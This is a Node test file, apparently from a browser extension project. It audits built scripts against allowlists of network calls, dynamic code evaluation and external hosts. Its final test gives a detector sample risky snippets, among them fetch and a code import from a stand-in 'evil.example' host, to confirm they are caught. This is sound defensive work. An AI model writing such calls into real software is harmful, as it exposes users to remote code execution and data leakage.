import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { test } from 'node:test';
import { findRiskyCode } from './find-risky-code.mjs';

const ROOT = resolve(import.meta.dirname, '../..');
const FOLDER = join(ROOT, 'dist/chrome');

function readJson(name) {
  return JSON.parse(readFileSync(join(import.meta.dirname, name), 'utf8'));
}

/** Places in libraries, and the few of ours, each with its reason. */
const KNOWN = readJson('known-code.json');
/** Hosts that are written in libraries, each with its reason. */
const HOSTS = readJson('known-hosts.json');

function namesOf(folder, pattern) {
  return readdirSync(folder, { recursive: true }).filter((name) => pattern.test(name));
}

const scripts = namesOf(FOLDER, /\.m?js$/).map((name) => ({
  name,
  ...findRiskyCode(readFileSync(join(FOLDER, name), 'utf8')),
}));

function knownFor({ kind, around }) {
  return KNOWN.filter((known) => known.kind === kind && around.includes(known.near));
}

test('each place that could reach the network, start a script or make code of a text is known, with its reason', () => {
  const unknown = scripts.flatMap(({ name, places }) =>
    places.filter((place) => knownFor(place).length === 0).map(({ kind, around }) => [name, kind, around]),
  );
  assert.deepEqual(unknown, []);
  const met = new Set(scripts.flatMap(({ places }) => places.flatMap(knownFor)));
  assert.deepEqual(
    KNOWN.filter((known) => !met.has(known)),
    [],
  );
});

test('no script imports what is not in the package', () => {
  const imports = scripts.flatMap(({ imports: named }) => named);
  assert.ok(imports.length > 10);
  assert.deepEqual(
    imports.filter((name) => !/^\.{0,2}\//.test(name)),
    [],
  );
});

test('each address in a script is a link of our data, or a host whose reason is known', () => {
  const links = new Set(
    namesOf(join(ROOT, 'src'), /\.json$/).flatMap((name) =>
      [...readFileSync(join(ROOT, 'src', name), 'utf8').matchAll(/"(https?:[^"]+)"/g)].map(
        (match) => match[1],
      ),
    ),
  );
  const others = scripts.flatMap(({ addresses }) => [...addresses].filter((address) => !links.has(address)));
  const hosts = new Set(others.map((address) => new URL(address).hostname));
  assert.deepEqual([...hosts].filter((host) => !Object.hasOwn(HOSTS, host)).sort(), []);
  assert.deepEqual(
    Object.keys(HOSTS).filter((host) => !hosts.has(host)),
    [],
  );
});

test('what looks for such code finds it', () => {
  const risky = [
    'eval("1")',
    'new Function("return 1")',
    'fetch("https://evil.example/")',
    'globalThis.fetch(a)',
    'new WebSocket(a)',
    'navigator.sendBeacon(a)',
    'import(a)',
    'setTimeout("a()", 1)',
    'a.innerHTML = b',
    'const { fetch: f } = self',
    'new Worker(a)',
  ];
  assert.deepEqual(
    risky.filter((text) => findRiskyCode(text).places.length === 0),
    [],
  );
  assert.deepEqual(findRiskyCode('import a from "https://evil.example/a.js"').imports, [
    'https://evil.example/a.js',
  ]);
});
